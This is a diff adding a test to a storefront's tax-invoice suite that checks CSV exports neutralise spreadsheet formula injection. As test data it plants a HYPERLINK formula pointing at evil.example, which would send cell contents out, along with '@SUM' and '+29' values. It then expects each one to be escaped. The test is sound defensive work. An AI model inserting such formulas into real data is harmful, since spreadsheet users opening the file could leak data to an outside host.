@@ -8,7 +8,8 @@ import type {
   ProductListResponse,
 } from '@storefront/contract';
 import { financialYearOf, invoiceNumber, orderStatusChangeSchema } from '@storefront/contract';
-import { eq, sql } from 'drizzle-orm';
+import { eq, inArray, sql } from 'drizzle-orm';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { finishedJob } from '../../test/jobs';
 import { openDatabase, queryRows } from '../../db/client';
@@ -620,6 +621,61 @@ describe.each(drivers)('tax invoices on %s', (driver) => {
     });
     expect(badMonth.statusCode).toBe(400);
     expect(badMonth.json().error).toMatch(/^month: /);
+  });
+
+  it('writes no cell of any export that a spreadsheet would run as a formula', async () => {
+    const staff = { staffId: null, email: 'terminal' } as const;
+    const [store] = await t.db.select().from(stores).where(eq(stores.isDefault, true));
+    const service = createAdminOrderService(t.db, {
+      now: () => Date.parse('2030-12-10T06:00:00Z'),
+    });
+    // The buyer's name is what the shopper typed; the large inter-state order goes to B2CL,
+    // the other to B2CS.
+    const name = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+    const small = await placeProcessing({ ...testShippingAddress, fullName: name });
+    const large = await placeProcessing({ ...testShippingAddress, fullName: name });
+    await t.db
+      .update(orderItems)
+      .set({ quantity: sql`${orderItems.quantity} * 14` })
+      .where(eq(orderItems.orderId, large.id));
+    for (const order of [small, large]) {
+      await service.changeStatus(store!.id, staff, order.id, SHIP);
+    }
+    // Nothing else in them is typed by a shopper today; an export trusts no stored text either.
+    await t.db
+      .update(invoices)
+      .set({
+        data: sql`jsonb_set(jsonb_set(${invoices.data}, '{number}', '"@SUM(1+1)"'), '{placeOfSupply,code}', '"+29"')`,
+      })
+      .where(inArray(invoices.orderId, [small.id, large.id]));
+    const exportOf = async (format: string) => {
+      const response = await asStaff(t.app, manager, {
+        method: 'GET',
+        url: `/api/v1/admin/invoices/export?month=2030-12&format=${format}`,
+      });
+      expect(response.statusCode).toBe(200);
+      return (parse(response.body) as string[][]).slice(1);
+    };
+
+    const lines = await exportOf('lines');
+    expect(lines.map((row) => row.slice(0, 6))).toEqual(
+      [small, small, small, large, large, large].map((order) => [
+        "'@SUM(1+1)",
+        '10-Dec-2030',
+        order.id,
+        `'${name}`,
+        '29-Karnataka',
+        "'+29-Karnataka",
+      ]),
+    );
+    expect(await exportOf('b2cs')).toEqual([
+      ['OE', "'+29-Karnataka", '5', '', expect.stringMatching(/^\d+\.\d\d$/), '', ''],
+      ['OE', "'+29-Karnataka", '18', '', expect.stringMatching(/^\d+\.\d\d$/), '', ''],
+    ]);
+    expect((await exportOf('b2cl')).map((row) => row.slice(0, 4))).toEqual([
+      ["'@SUM(1+1)", '10-Dec-2030', '106316.00', "'+29-Karnataka"],
+      ["'@SUM(1+1)", '10-Dec-2030', '106316.00', "'+29-Karnataka"],
+    ]);
   });
 
   it('issues none, and counts no GST in the breakup, for a shop not registered for GST', async () => {
